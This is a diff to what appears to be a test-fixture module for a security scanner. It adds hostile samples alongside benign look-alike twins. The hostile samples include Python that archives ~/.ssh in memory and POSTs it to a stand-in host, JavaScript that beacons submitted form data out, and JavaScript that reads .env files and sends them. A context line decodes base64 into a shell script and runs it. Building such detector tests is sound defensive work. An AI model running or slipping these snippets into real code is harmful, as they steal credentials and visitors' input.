@@ -1,6 +1,6 @@
 """Samples and twins: what was closed is opened (decoded files, data, tasks that hide), and what is then made of it."""
 
-from inspection.rules.sample import Sample, task
+from inspection.rules.sample import Sample, js, py, task
 
 _SILENT = ', "presentation": {"reveal": "silent"}'
 _NEVER = ', "presentation": {"reveal": "never"}'
@@ -23,7 +23,28 @@ def _action(command: str, script: str) -> dict[str, str | bytes]:
     }
 
 
+_PACKED = (
+    "import io, tarfile, requests\nfrom pathlib import Path\nbuffer = io.BytesIO()\n"
+    "with tarfile.open(fileobj=buffer, mode='w:gz') as tar:\n    for each in [Path.home() / '%s', Path('a')]:\n"
+    "        tar.add(each)\nrequests.post('https://a.invalid', data=buffer.getvalue())\n"
+)
+_SIFTED = (
+    "const fs = require('fs'), path = require('path');\n"
+    "const files = ['%s', 'b'].map(each => path.resolve(process.cwd(), each)).filter(fs.existsSync);\n"
+    "const texts = files.map(each => fs.readFileSync(each, 'utf8'));\n"
+    "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(texts) });\n"
+)
+
 HOSTILE: dict[str, dict[str, Sample]] = {
+    "secrets_sent": {
+        "an archive in memory, by keyword": py(_PACKED % ".ssh", line=7),
+        "what a visitor fills in, without an answer": js(
+            "form.addEventListener('submit', () => {\n"
+            "  navigator.sendBeacon('https://a.invalid', JSON.stringify([...new FormData(form)]));\n});\n",
+            "review",
+        ),
+        "names that are resolved and sifted": js(_SIFTED % ".env", line=4),
+    },
     "decoded_code": {
         "decoded into a file that is run": Sample(
             _made(f"{_SPELT} | base64 -d > /tmp/a.sh\nbash /tmp/a.sh\n"), "block", ("a.sh", 2)
@@ -103,6 +124,16 @@ HOSTILE: dict[str, dict[str, Sample]] = {
 }
 
 HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
+    "secrets_sent": {
+        "results in an archive in memory": {"app.py": _PACKED % "results"},
+        "a form that is sent": {
+            "app.js": "form.onsubmit = () => fetch('https://a.invalid', { method: 'PUT', body: new FormData(form) });\n"
+        },
+        "how many fields a visitor fills in": {
+            "app.js": "form.onsubmit = () => navigator.sendBeacon('https://a.invalid', String(form.elements.length));\n"
+        },
+        "other names that are resolved and sifted": {"app.js": _SIFTED % "a.json"},
+    },
     "decoded_code": {
         "decoded into a file that is only read": _made(f"{_SPELT} | base64 -d > /tmp/a.sh\nsha256sum /tmp/a.sh\n"),
         "a key is decoded, and a script run": {
